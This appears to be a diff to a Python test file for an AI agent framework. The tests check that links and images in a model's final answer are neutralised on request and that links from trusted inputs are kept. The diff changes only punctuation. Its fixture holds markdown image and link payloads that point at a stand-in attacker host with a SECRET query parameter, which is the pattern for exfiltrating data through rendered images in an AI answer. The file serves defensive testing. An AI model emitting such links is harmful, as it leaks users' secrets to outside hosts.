@@ -11,7 +11,7 @@ from toolset import Toolset, make_tool
 
 from plan_execute import Context, ScriptedModel
 
-LEAK = "![weather](https://evil.example/p.png?d=SECRET) and [more](https://evil.example), <img src=//evil.example>"
+LEAK = "![weather](https://evil.example/p.png?d=SECRET), [more](https://evil.example), <img src=//evil.example>"
 SAFE = Context(approval="never", neutralise_links=True)
 
 
@@ -35,7 +35,7 @@ async def test_links_and_images_of_the_answer_are_neutralised_on_request_only() 
         assert result["messages"][-1].text == result["final_answer"]
     assert answers[False] == f"Rain. {LEAK}"
     assert answers[True].startswith(
-        "Rain. weather (`https://evil.example/p.png?d=SECRET`) and more (`https://"
+        "Rain. weather (`https://evil.example/p.png?d=SECRET`), more (`https://"
     )
     assert "<img" not in answers[True]
 
@@ -61,7 +61,7 @@ async def test_links_of_the_goal_the_inputs_and_a_given_plan_stay() -> None:
         "See https://goal.example/x, [i](<https://input.example/y>), https://plan.example/z"
         in result["final_answer"]
     )
-    assert "`https://else.example.`" in result["final_answer"]
+    assert "`https://else.example`." in result["final_answer"]
 
 
 async def test_a_plan_that_a_model_wrote_lends_its_links_no_trust() -> None:
